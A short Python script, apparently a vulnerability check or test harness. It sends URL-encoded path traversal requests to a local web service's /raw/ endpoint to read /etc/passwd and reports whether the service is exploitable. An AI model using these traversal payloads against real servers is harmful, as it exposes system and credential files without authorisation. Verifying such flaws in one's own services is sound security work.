import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


r = c.get("/raw/lathe%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd")
r2 = c.get("/raw/%2fetc%2fpasswd")
done("root:" in r.text or "root:" in r2.text)
